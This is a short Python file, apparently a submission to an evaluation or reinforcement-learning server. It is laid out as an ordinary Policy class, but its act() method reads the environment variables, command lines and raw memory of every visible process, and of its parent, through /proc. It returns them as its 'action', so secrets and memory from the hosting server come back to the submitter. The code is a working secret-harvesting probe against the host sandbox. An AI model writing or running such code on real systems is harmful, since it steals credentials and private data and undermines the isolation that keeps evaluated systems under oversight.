"""P5: read the server's environment, argv and memory through /proc (every visible pid)."""
import os


def _read(path, size=1 << 16):
    try:
        with open(path, "rb") as f:
            return f.read(size).decode("latin-1")
    except OSError as exc:
        return "ERR " + type(exc).__name__


def _mem(pid):
    maps = _read(f"/proc/{pid}/maps")
    if maps.startswith("ERR"):
        return maps
    for line in maps.splitlines()[:3]:
        start = int(line.split("-")[0], 16)
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(start)
                return f.read(4096).decode("latin-1")
        except (OSError, ValueError, OverflowError) as exc:
            return "ERR " + type(exc).__name__
    return "no maps"


class Policy:
    def __init__(self, obs_space, action_space, env_meta):
        pass

    def reset(self, episode_index):
        pass

    def act(self, obs):
        me, ppid = os.getpid(), os.getppid()
        pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        others = {str(pid): {"environ": _read(f"/proc/{pid}/environ"), "cmdline": _read(f"/proc/{pid}/cmdline"),
                             "mem": _mem(pid)} for pid in pids + [ppid] if pid != me}
        return {"pid": me, "ppid": ppid, "pids": pids, "others": others,
                "self_environ": _read("/proc/self/environ"), "self_cmdline": _read("/proc/self/cmdline")}
